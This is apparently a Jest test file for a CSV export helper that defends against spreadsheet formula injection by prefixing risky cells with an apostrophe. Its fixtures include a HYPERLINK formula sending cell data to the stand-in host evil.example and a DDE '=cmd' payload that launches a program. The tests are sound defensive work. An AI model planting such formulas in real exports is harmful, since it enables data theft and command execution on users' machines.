import { describe, expect, it } from '@jest/globals'
import { parse } from 'csv-parse/sync'
import { spreadsheetSafe, toCsv } from '@/lib/csv'

describe('CSV formula injection: every text cell Siang writes is shown, never run', () => {
  it.each([
    '=HYPERLINK("https://evil.example/?d="&K2,"Open")',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\tX',
    '\rX',
  ])('puts an apostrophe before %j', (cell) => {
    expect(spreadsheetSafe(cell)).toBe(`'${cell}`)
  })

  it('leaves ordinary text, Lao, numbers and negative numbers as they are', () => {
    for (const cell of ['ວິທະຍຸ ສະຫວັນນະເຂດ', 'Radio 1 = best', 'a-b', '', 0, -5, 12.5, null])
      expect(spreadsheetSafe(cell)).toBe(cell)
  })

  it('writes a header, a byte-order mark and neutralised cells that read back as text', () => {
    const csv = toCsv(
      [
        { name: '=cmd|" /C calc"!A0', value: -3 },
        { name: 'ສະຖານີ', value: 7 },
      ],
      ['name', 'value'] as const,
    )
    expect(csv.startsWith('\uFEFF')).toBe(true)
    const rows = parse(csv, { columns: true, bom: true }) as Record<string, string>[]
    expect(rows).toEqual([
      { name: `'=cmd|" /C calc"!A0`, value: '-3' },
      { name: 'ສະຖານີ', value: '7' },
    ])
  })
})
